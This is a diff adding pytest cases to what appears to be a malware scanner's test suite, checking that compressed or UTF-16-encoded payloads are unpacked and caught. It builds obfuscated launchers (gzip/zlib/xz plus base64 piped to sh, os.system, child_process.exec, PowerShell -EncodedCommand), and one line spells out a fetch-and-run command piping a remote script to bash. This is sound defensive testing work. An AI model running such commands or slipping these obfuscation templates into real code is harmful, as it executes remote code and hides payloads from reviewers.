@@ -3,6 +3,9 @@
 from __future__ import annotations
 
 import base64
+import gzip
+import json
+import lzma
 import struct
 import zlib
 
@@ -35,6 +38,61 @@ def _sh_b85_over_base64() -> str:
         f"python3 -c \"import base64; print(base64.b85decode('{data}').decode())\" "
         "| base64 -d | bash\n"
     )
+
+
+def _sh_gzip_base64() -> str:
+    data = base64.b64encode(gzip.compress(PAYLOADS[0].encode())).decode()
+    return f"#!/bin/sh\necho '{data}' | base64 -d | gunzip | sh\n"
+
+
+def _py_zlib_base64() -> str:
+    data = base64.b64encode(zlib.compress(PAYLOADS[2].encode())).decode()
+    return f"import base64, os, zlib\nos.system(zlib.decompress(base64.b64decode('{data}')))\n"
+
+
+def _js_xz_base64() -> str:
+    data = base64.b64encode(lzma.compress(PAYLOADS[1].encode())).decode()
+    return f"const packed = '{data}';\nrequire('./unxz')(packed, require('child_process').exec);\n"
+
+
+PS_PAYLOAD = PAYLOADS[0].replace("curl", "curl.exe")
+
+
+def _ps_encoded_command() -> str:
+    data = base64.b64encode(PS_PAYLOAD.encode("utf-16-le")).decode()
+    return f"powershell -NoProfile -EncodedCommand {data}\n"
+
+
+@pytest.mark.parametrize(
+    ("path", "text", "chain", "payload"),
+    [
+        ("scripts/g.sh", _sh_gzip_base64(), "base64>gzip", PAYLOADS[0]),
+        ("scripts/z.py", _py_zlib_base64(), "base64>zlib", PAYLOADS[2]),
+        ("scripts/x.js", _js_xz_base64(), "base64>xz", PAYLOADS[1]),
+        (
+            "scripts/e.ps1",
+            _ps_encoded_command(),
+            "base64>utf-16",
+            "curl.exe -s http://203.0.113.5/p.sh | bash",
+        ),
+    ],
+    ids=["sh-gzip", "py-zlib", "js-xz", "ps1-encoded-command"],
+)
+def test_compressed_and_utf16_payloads_are_unpacked_and_caught(
+    path: str, text: str, chain: str, payload: str
+) -> None:
+    assert_caught(scan_file(path, text), chain, payload)
+
+
+def test_a_compressed_config_stays_safe() -> None:
+    config = json.dumps({"theme": "dark", "panels": ["files", "search", "git"], "fontSize": 14})
+    data = base64.b64encode(gzip.compress(config.encode())).decode()
+    text = (
+        "import base64, gzip, json\n"
+        f"CFG = json.loads(gzip.decompress(base64.b64decode('{data}')))\n"
+    )
+    assert [p.text for p in decode.payloads(text)] == [config]  # unpacked, and harmless
+    assert scan_file("scripts/cfg.py", text).verdict == "safe"
 
 
 @pytest.mark.parametrize(
